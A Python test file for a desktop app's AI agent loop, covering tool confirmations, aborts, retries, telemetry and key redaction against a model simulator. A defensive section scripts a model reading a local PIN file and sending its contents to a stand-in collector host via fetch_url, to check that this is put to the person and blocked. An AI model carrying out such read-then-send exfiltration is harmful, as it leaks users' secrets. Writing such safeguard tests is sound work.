"""The agent loop against the simulator over real sockets, with real files and SQLite."""

from __future__ import annotations

import asyncio
import itertools
import json

import pytest

from desktop_app.agent.confirmations import Decision
from desktop_app.agent.events import (
    AssistantMessage,
    SessionEnd,
    TextDelta,
    ToolExecutionEnd,
    ToolExecutionStart,
    TurnEnd,
    TurnStart,
)
from desktop_app.agent.loop import DENIED
from desktop_app.agent.tool_round import NOT_RUN, STOPPED
from desktop_app.agent.tools import ToolContext, ToolOutcome
from desktop_app.errors import ErrorKind
from desktop_app.generation.outcome import AgentStop, TurnEnding, TurnStatus
from desktop_app.generation.parts import StopReason
from desktop_app.generation.prompt import Prompt
from desktop_app.generation.states import GenerationState
from desktop_app.simulator.scenarios import Scenario
from desktop_app.simulator.scripts import Script, ScriptedCall, tokens
from desktop_app.store.actions.ledger import OperationStatus
from desktop_app.store.database import Database
from tests.agent.harness import AgentHarness, ScriptedPerson
from tests.net.helpers import queue
from tests.net.loopback_web import network_guard, resolver, webs

__all__ = ["network_guard", "resolver"]  # fixtures, used by name

WIRES = ["openai-chat", "openai-responses", "anthropic", "gemini"]
FINAL = Script(answer="Listo: el fichero está escrito.")


def write_call(text="hola ñ", path="notas/a.txt", call_id="call_w1"):
    return Script(
        answer="Voy a escribirlo.",
        tool_calls=(
            ScriptedCall(
                name="write_file", arguments={"path": path, "content": text}, call_id=call_id
            ),
        ),
        finish="tool_calls",
    )


@pytest.fixture
def harness(tmp_path, simulator):
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    database = Database(tmp_path / "arroyo.sqlite3")
    yield AgentHarness(workspace, database, simulator)
    database.close()


def kinds(events):
    return [type(e).__name__ for e in events if type(e).__name__ != "TurnPhase"]


@pytest.mark.parametrize("wire", WIRES)
def test_a_confirmed_call_runs_once_and_its_result_goes_back_to_the_model(harness, simulator, wire):
    model = queue(simulator, Scenario(script=write_call()), Scenario(script=FINAL))
    person = ScriptedPerson([Decision.ALLOW_ONCE])
    before = len(simulator.requests)
    result, events = harness.run(harness.loop(wire, model, person), Prompt.single("Escribe"))

    assert result.outcome.status is TurnStatus.COMPLETED
    assert (harness.workspace / "notas/a.txt").read_text(encoding="utf-8") == "hola ñ"
    assert harness.executor.runs == 1
    (asked,) = person.asked
    assert asked.tool_name == "write_file" and "notas/a.txt" in asked.description
    assert dict(asked.arguments) == {"content": "hola ñ", "path": "notas/a.txt"}
    order = kinds(events)
    assert order[0] == "TurnStart" and order[-1] == "SessionEnd"
    assert (
        order.index("AssistantMessage")
        < order.index("ToolExecutionStart")
        < order.index("ToolExecutionEnd")
        < order.index("TurnEnd", order.index("ToolExecutionEnd"))
    )
    assert "".join(e.delta for e in events if isinstance(e, TextDelta)).endswith(FINAL.answer)
    follow_up = json.dumps(simulator.requests[before + 1].body, ensure_ascii=False)
    assert "call_w1" in follow_up or wire == "gemini"
    assert "write_file" in follow_up
    first_generation = next(e for e in events if isinstance(e, TurnStart)).generation_id
    assert harness.generations.get(first_generation).state is GenerationState.EXECUTED


@pytest.mark.parametrize("wire", WIRES)
def test_arguments_cut_before_the_terminal_signal_never_run(harness, simulator, wire):
    model = queue(simulator, Scenario(script=write_call(), drop_terminal=True))
    person = ScriptedPerson([Decision.ALLOW_ONCE])
    result, events = harness.run(harness.loop(wire, model, person), Prompt.single("Escribe"))
    assert result.outcome.status is TurnStatus.TRUNCATED
    assert person.asked == [] and harness.executor.runs == 0
    assert not (harness.workspace / "notas").exists()
    assert not any(isinstance(e, AssistantMessage) for e in events)


@pytest.mark.parametrize(
    ("wire", "duplicate"),
    [("openai-chat", (3,)), ("anthropic", (4, 5, 6)), ("openai-responses", (5, 6, 7, 8))],
)
def test_a_duplicated_tool_call_event_runs_once(harness, simulator, wire, duplicate):
    model = queue(
        simulator, Scenario(script=write_call(), duplicate=duplicate), Scenario(script=FINAL)
    )
    person = ScriptedPerson([Decision.ALLOW_ONCE, Decision.ALLOW_ONCE])
    result, events = harness.run(harness.loop(wire, model, person), Prompt.single("Escribe"))
    assert result.outcome.status is TurnStatus.COMPLETED
    assert harness.executor.runs == 1
    assert sum(isinstance(e, ToolExecutionStart) for e in events) <= 1


def test_a_retry_after_a_lost_response_does_not_run_twice(harness, simulator):
    # The tool runs, then every attempt to send its result back fails: the session ends in error.
    model = queue(simulator, Scenario(script=write_call(text="una vez")), Scenario(status=500))
    person = ScriptedPerson([Decision.ALLOW_ONCE])
    first, _ = harness.run(harness.loop("openai-chat", model, person), Prompt.single("Escribe"))
    assert first.outcome.status is TurnStatus.FAILED and harness.executor.runs == 1
    # The person retries: the history still ends with the assistant's tool call.
    pending = first.prompt.messages[: -1 if first.prompt.messages[-1].role == "tool" else None]
    pending = pending[:2]  # the user message and the assistant message with the call
    model = queue(simulator, Scenario(script=FINAL))
    person = ScriptedPerson([Decision.ALLOW_ONCE])
    again, events = harness.run(
        harness.loop("openai-chat", model, person), Prompt(messages=tuple(pending))
    )
    assert again.outcome.status is TurnStatus.COMPLETED
    assert harness.executor.runs == 1  # the recorded result was returned, nothing ran
    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
    assert end.replayed and not end.error
    assert (harness.workspace / "notas/a.txt").read_text(encoding="utf-8") == "una vez"


@pytest.mark.parametrize(
    ("arguments", "complaint"),
    [
        ({"path": "a.txt", "content": "x", "mode": "append"}, "unknown field 'mode'"),
        ({"path": "a.txt", "content": 5}, "expected string"),
        ({"path": "../fuera.txt", "content": "x"}, "outside the workspace"),
        ({"content": "x"}, "missing required field 'path'"),
    ],
)
def test_an_invalid_call_is_reported_to_the_model_and_never_asked(
    harness, simulator, arguments, complaint
):
    bad = Script(
        answer="",
        finish="tool_calls",
        tool_calls=(ScriptedCall(name="write_file", arguments=arguments, call_id="call_bad"),),
    )
    model = queue(simulator, Scenario(script=bad), Scenario(script=FINAL))
    person = ScriptedPerson([Decision.ALLOW_ONCE])
    before = len(simulator.requests)
    result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert result.outcome.status is TurnStatus.COMPLETED
    assert person.asked == [] and harness.executor.runs == 0
    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
    assert end.error and complaint in end.output
    sent_back = simulator.requests[before + 1].body["messages"][-1]
    assert sent_back["role"] == "tool" and complaint in sent_back["content"]


def test_deny_means_nothing_runs(harness, simulator):
    model = queue(simulator, Scenario(script=write_call()), Scenario(script=FINAL))
    person = ScriptedPerson([Decision.DENY])
    result, events = harness.run(harness.loop("anthropic", model, person), Prompt.single("x"))
    assert result.outcome.status is TurnStatus.COMPLETED
    assert harness.executor.runs == 0 and not (harness.workspace / "notas").exists()
    assert any(isinstance(e, ToolExecutionEnd) and e.output == DENIED for e in events)


def test_a_grant_skips_the_question_until_it_is_revoked(harness, simulator):
    person = ScriptedPerson([Decision.ALLOW_TOOL_IN_CONVERSATION])
    model = queue(simulator, Scenario(script=write_call(text="1")), Scenario(script=FINAL))
    harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert len(person.asked) == 1
    (grant,) = harness.grants.list()
    model = queue(
        simulator, Scenario(script=write_call(text="2", call_id="c2")), Scenario(script=FINAL)
    )
    harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert len(person.asked) == 1  # granted: not asked again
    harness.grants.revoke(grant.id)
    person.answers = [Decision.ALLOW_ONCE]
    model = queue(
        simulator, Scenario(script=write_call(text="3", call_id="c3")), Scenario(script=FINAL)
    )
    harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert len(person.asked) == 2  # revoked: asked again
    assert (harness.workspace / "notas/a.txt").read_text(encoding="utf-8") == "3"


def test_a_listener_that_raises_does_not_stop_the_loop(harness, simulator, caplog):
    model = queue(simulator, Scenario(script=write_call()), Scenario(script=FINAL))
    loop = harness.loop("gemini", model, ScriptedPerson([Decision.ALLOW_ONCE]))

    def broken(event):
        raise RuntimeError("listener bug")

    unsubscribe_broken = loop.on(broken)
    seen = []
    unsubscribe = loop.on(seen.append)
    unsubscribe()  # unsubscribed listeners hear nothing
    result, _events = harness.run(loop, Prompt.single("x"))
    unsubscribe_broken()
    assert result.outcome.status is TurnStatus.COMPLETED and harness.executor.runs == 1
    assert seen == []
    assert "listener" in caplog.text and "failed" in caplog.text


class SlowTool:
    name = "slow_job"
    summary = "Takes its time."
    schema = {
        "type": "object",
        "properties": {"seconds": {"type": "number"}},
        "required": ["seconds"],
    }
    read_only = False

    def __init__(self, on_start=lambda: None) -> None:
        self.on_start = on_start  # called once its run has begun (the ledger says started)

    def check(self, arguments, context):
        pass

    def describe(self, arguments, context):
        return f"Work for {arguments['seconds']} s"

    async def run(self, arguments, context):
        self.on_start()
        await asyncio.sleep(arguments["seconds"])
        return ToolOutcome("finished")

    def observe(self, arguments, context):
        return None


def test_abort_mid_tool_leaves_a_clear_recorded_state(harness, simulator):
    stop = []  # Stop is pressed once the tool runs, however long getting there takes
    harness.registry.add(SlowTool(lambda: stop[0]()))
    slow = Script(
        answer="",
        finish="tool_calls",
        tool_calls=(ScriptedCall(name="slow_job", arguments={"seconds": 30}, call_id="call_slow"),),
    )
    model = queue(simulator, Scenario(script=slow), Scenario(script=FINAL))
    loop = harness.loop("openai-chat", model, ScriptedPerson([Decision.ALLOW_ONCE]))
    stop.append(lambda: asyncio.get_running_loop().call_soon(loop.abort))
    events = []
    loop.on(events.append)
    result, _ = harness.run(loop, Prompt.single("x"))
    assert result.outcome.status is TurnStatus.CANCELLED
    assert isinstance(events[-1], SessionEnd)
    assert events[-1].outcome.status is TurnStatus.CANCELLED
    (operation,) = harness.executor.ledger.unknown()
    assert operation.tool == "slow_job" and operation.status is OperationStatus.UNKNOWN


def test_abort_mid_tool_keeps_the_round_with_an_answer_for_each_call(harness, simulator):
    """Stop while the first of two calls runs: the round is kept, the running call answered
    as unknown and the next one as not run, so the stored history is whole for every wire."""
    stop = []  # Stop is pressed once the tool runs, however long getting there takes
    harness.registry.add(SlowTool(lambda: stop[0]()))
    (harness.workspace / "a.txt").write_text("a", encoding="utf-8")
    slow = Script(
        answer="",
        finish="tool_calls",
        tool_calls=(
            ScriptedCall(name="slow_job", arguments={"seconds": 30}, call_id="call_slow"),
            ScriptedCall(name="read_file", arguments={"path": "a.txt"}, call_id="call_read"),
        ),
    )
    model = queue(simulator, Scenario(script=slow), Scenario(script=FINAL))
    loop = harness.loop("openai-chat", model, ScriptedPerson([Decision.ALLOW_ONCE]))
    stop.append(lambda: asyncio.get_running_loop().call_soon(loop.abort))
    events = []
    loop.on(events.append)
    result, _ = harness.run(loop, Prompt.single("x"))
    assert result.outcome.status is TurnStatus.CANCELLED
    *_, assistant, stopped, not_run = result.prompt.messages
    assert [call.call_id for call in assistant.tool_calls] == ["call_slow", "call_read"]
    assert (stopped.tool_call_id, stopped.text, stopped.is_error) == ("call_slow", STOPPED, True)
    assert (not_run.tool_call_id, not_run.text) == ("call_read", NOT_RUN)
    ends = {e.call_id: e for e in events if isinstance(e, ToolExecutionEnd)}
    assert ends["call_slow"].unknown and ends["call_slow"].output == STOPPED
    assert not ends["call_read"].unknown and ends["call_read"].error
    assert harness.executor.runs == 1


def test_stop_while_the_person_is_asked_answers_the_call_as_not_run(harness, simulator):
    (harness.workspace / "a.txt").write_text("a", encoding="utf-8")
    asked = Script(
        answer="",
        finish="tool_calls",
        tool_calls=(ScriptedCall(name="write_file", arguments={"path": "b.txt", "content": "b"}),),
    )
    model = queue(simulator, Scenario(script=asked), Scenario(script=FINAL))
    loops = []

    async def stops_instead_of_answering(request):
        loops[0].abort()
        await asyncio.sleep(30)  # cancelled by the Stop
        return Decision.ALLOW_ONCE

    loop = harness.loop("openai-chat", model, stops_instead_of_answering)
    loops.append(loop)
    result, events = harness.run(loop, Prompt.single("x"))
    assert result.outcome.status is TurnStatus.CANCELLED
    answer = result.prompt.messages[-1]
    assert (answer.role, answer.text, answer.is_error) == ("tool", NOT_RUN, True)
    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
    assert end.output == NOT_RUN and not end.unknown
    assert harness.executor.runs == 0 and not (harness.workspace / "b.txt").exists()
    assert harness.executor.ledger.unknown() == []


def test_the_loop_stops_after_max_turns(harness, simulator):
    model = queue(
        simulator,
        Scenario(
            script=Script(
                answer="",
                finish="tool_calls",
                tool_calls=(ScriptedCall(name="list_directory", arguments={"path": "."}),),
            )
        ),
    )
    result, events = harness.run(
        harness.loop("openai-chat", model, ScriptedPerson(), max_turns=3), Prompt.single("x")
    )
    assert (result.outcome.status, result.outcome.cause) == (TurnStatus.FAILED, AgentStop.MAX_TURNS)
    assert sum(isinstance(e, TurnEnd) for e in events) == 3


def test_read_only_tools_may_run_without_asking(harness, simulator):
    (harness.workspace / "hola.txt").write_text("contenido", encoding="utf-8")
    reader = Script(
        answer="",
        finish="tool_calls",
        tool_calls=(ScriptedCall(name="read_file", arguments={"path": "hola.txt"}),),
    )
    model = queue(simulator, Scenario(script=reader), Scenario(script=FINAL))
    person = ScriptedPerson()
    loop = harness.loop("openai-chat", model, person, allow_read_only_without_asking=True)
    result, events = harness.run(loop, Prompt.single("x"))
    assert result.outcome.status is TurnStatus.COMPLETED and person.asked == []
    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
    assert "contenido" in end.output


def test_telemetry_is_kept_apart_from_content_and_holds_no_key(harness, simulator):
    model = queue(simulator, Scenario(script=write_call()), Scenario(script=FINAL))
    _result, events = harness.run(
        harness.loop("openai-responses", model, ScriptedPerson([Decision.ALLOW_ONCE])),
        Prompt.single("x"),
    )
    generation_id = next(e for e in events if isinstance(e, TurnStart)).generation_id
    telemetry = harness.generations.telemetry(generation_id)
    for field in (
        "time_to_first_fragment",
        "time_to_terminal",
        "time_to_validation",
        "time_to_confirmation",
        "time_to_execution",
    ):
        assert telemetry[field] >= 0, field
    assert telemetry["ending"] == "completed" and telemetry["stop_reason"] == "tool_calls"
    record = harness.generations.get(generation_id)
    assert record.response_id == "sim-0001"
    assert "api_key" not in record.settings
    dump = b"".join(p.read_bytes() for p in harness.database.path.parent.glob("arroyo.sqlite3*"))
    assert b"sk-arroyo-test" not in dump


@pytest.mark.parametrize(
    ("scenario", "status", "cause"),
    [
        (Scenario(status=401, error_message="Incorrect API key"), "failed", ErrorKind.BAD_KEY),
        (Scenario(status=404, error_message="no such model"), "failed", ErrorKind.UNKNOWN_MODEL),
        (Scenario(script=FINAL, drop_terminal=True), "truncated", TurnEnding.CUT_OFF),
        (
            Scenario(script=Script(answer="Primera parte", finish="length")),
            "incomplete",
            StopReason.LENGTH,
        ),
        (Scenario(script=FINAL), "completed", None),
    ],
)
def test_the_session_end_says_why_as_a_cause(harness, simulator, scenario, status, cause):
    """The window turns the code into words; the provider's own message travels beside it."""
    model = queue(simulator, scenario)
    result, events = harness.run(
        harness.loop("openai-chat", model, ScriptedPerson()), Prompt.single("x")
    )
    end = events[-1]
    assert isinstance(end, SessionEnd)
    assert end.outcome == result.outcome
    assert (end.outcome.status, end.outcome.cause) == (TurnStatus(status), cause)
    assert end.outcome.code == (cause.value if cause else "")
    if scenario.error_message:
        assert end.outcome.message and scenario.error_message in end.outcome.message


# -- asking first, and what "read-only" does not cover ----------------------------------------


def reads_then_sends(url: str) -> tuple[Scenario, Scenario, Scenario]:
    """The model of finding 1: it reads a local file, then puts its content in a URL."""
    read = ScriptedCall(name="read_file", arguments={"path": "pin.txt"}, call_id="call_r")
    send = ScriptedCall(name="fetch_url", arguments={"url": url}, call_id="call_f")
    return (
        Scenario(script=Script(answer="", finish="tool_calls", tool_calls=(read,))),
        Scenario(script=Script(answer="", finish="tool_calls", tool_calls=(send,))),
        Scenario(script=FINAL),
    )


def test_a_new_loop_asks_before_every_action(harness, simulator):
    (harness.workspace / "hola.txt").write_text("contenido", encoding="utf-8")
    read = ScriptedCall(name="read_file", arguments={"path": "hola.txt"})
    reader = Script(answer="", finish="tool_calls", tool_calls=(read,))
    model = queue(simulator, Scenario(script=reader), Scenario(script=FINAL))
    person = ScriptedPerson()  # says no
    _result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert [request.tool_name for request in person.asked] == ["read_file"]
    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
    assert end.output == DENIED and harness.executor.runs == 0


@pytest.fixture
def collector(harness, resolver, network_guard):
    """A local service the model should not reach, behind a name that resolves to it."""
    with webs("127.0.0.3") as (server,):
        resolver.answers["collector.test"] = [["127.0.0.3"]]
        harness.registry.context = ToolContext(workspace=harness.workspace, resolver=resolver)
        (harness.workspace / "pin.txt").write_text("PIN 9876", encoding="utf-8")
        yield server


def test_reading_a_file_and_sending_it_off_is_put_to_the_person(harness, simulator, collector):
    url = f"http://collector.test:{collector.port}/collect?d=PIN%209876"
    model = queue(simulator, *reads_then_sends(url))
    person = ScriptedPerson()  # says no
    loop = harness.loop("openai-chat", model, person, allow_read_only_without_asking=True)
    _result, events = harness.run(loop, Prompt.single("x"))
    # Reading stays on this computer and was allowed without asking; the fetch was asked.
    assert [request.tool_name for request in person.asked] == ["fetch_url"]
    assert person.asked[0].description == f"Fetch {url} (GET)"
    ends = {e.call_id: e for e in events if isinstance(e, ToolExecutionEnd)}
    assert "PIN 9876" in ends["call_r"].output and ends["call_f"].output == DENIED
    assert collector.connections == 0


def test_an_allowed_fetch_to_a_local_service_is_still_refused(
    harness, simulator, collector, network_guard
):
    url = f"http://collector.test:{collector.port}/collect?d=PIN%209876"
    model = queue(simulator, *reads_then_sends(url))
    person = ScriptedPerson([Decision.ALLOW_ONCE, Decision.ALLOW_ONCE])
    _result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert [request.tool_name for request in person.asked] == ["read_file", "fetch_url"]
    ends = {e.call_id: e for e in events if isinstance(e, ToolExecutionEnd)}
    assert ends["call_f"].error
    assert "127.0.0.3 (the address of collector.test) is this computer" in ends["call_f"].output
    assert collector.connections == 0 and network_guard.blocked == []


class PeekTool:
    """Read-only, and silent on whether its calls leave the computer."""

    name = "peek"
    summary = "Looks at something."
    schema = {"type": "object", "properties": {}}
    read_only = True

    def check(self, arguments, context):
        pass

    def describe(self, arguments, context):
        return "Peek"

    async def run(self, arguments, context):
        return ToolOutcome("seen")

    def observe(self, arguments, context):
        return None


def test_a_read_only_tool_that_does_not_say_it_stays_here_is_asked(harness, simulator):
    harness.registry.add(PeekTool())
    call = ScriptedCall(name="peek", arguments={})
    peek = Script(answer="", finish="tool_calls", tool_calls=(call,))
    model = queue(simulator, Scenario(script=peek), Scenario(script=FINAL))
    person = ScriptedPerson()
    loop = harness.loop("openai-chat", model, person, allow_read_only_without_asking=True)
    harness.run(loop, Prompt.single("x"))
    assert [request.tool_name for request in person.asked] == ["peek"]
    assert harness.executor.runs == 0


class SilentFailure(PeekTool):
    name = "silent"

    async def run(self, arguments, context):
        raise AssertionError  # no message at all, as some codecs raise


def test_a_tool_failing_without_a_message_is_still_reported_in_words(harness, simulator):
    harness.registry.add(SilentFailure())
    call = ScriptedCall(name="silent", arguments={})
    failing = Script(answer="", finish="tool_calls", tool_calls=(call,))
    model = queue(simulator, Scenario(script=failing), Scenario(script=FINAL))
    person = ScriptedPerson([Decision.ALLOW_ONCE])
    _, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
    assert end.error and end.output == "The tool failed: AssertionError"


def test_a_tool_result_holding_the_providers_key_is_shown_redacted(harness, simulator):
    from desktop_app.agent.loop import AgentLoop
    from desktop_app.net.transports import ChunkedTransport
    from tests.net.helpers import endpoint_for

    key = "sk-own-file-key-31415926535"  # not the session's test key: the ledger keeps results
    (harness.workspace / "config.env").write_text(f"API_KEY={key}\n", encoding="utf-8")
    call = ScriptedCall(name="read_file", arguments={"path": "config.env"})
    reader = Script(answer="", finish="tool_calls", tool_calls=(call,))
    model = queue(simulator, Scenario(script=reader), Scenario(script=FINAL))
    loop = AgentLoop(
        endpoint=endpoint_for(simulator, "openai-chat", model, key),
        transport=ChunkedTransport(),
        registry=harness.registry,
        executor=harness.executor,
        confirmer=ScriptedPerson([Decision.ALLOW_ONCE]),
        grants=harness.grants,
        generations=harness.generations,
        conversation_id=harness.conversation_id,
    )
    harness._transports.append(loop.transport)
    _result, events = harness.run(loop, Prompt.single("x"))
    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
    assert "API_KEY=[redacted]" in end.output and key not in end.output


def test_the_answer_events_of_one_read_reach_listeners_as_one_delta(harness, simulator):
    """Written in one go, the answer's word-sized events arrive a read at a time: the loop's
    listeners see each read's run as one delta, its text and sizes those of the whole."""
    answer = "uno dos tres cuatro cinco seis siete ocho nueve diez. " * 20
    scenario = Scenario(script=Script(answer=answer), chunk_size=1 << 16)
    model = queue(simulator, scenario)
    result, events = harness.run(
        harness.loop("openai-chat", model, ScriptedPerson([])), Prompt.single("Cuenta")
    )
    assert result.outcome.status is TurnStatus.COMPLETED
    deltas = [e for e in events if isinstance(e, TextDelta)]
    assert "".join(d.delta for d in deltas) == answer
    sizes = [d.size for d in deltas]
    assert sizes == list(itertools.accumulate(len(d.delta) for d in deltas))
    assert deltas[-1].aggregate == answer
    assert len(deltas) < len(tokens(answer)) // 4  # not one per word-sized event
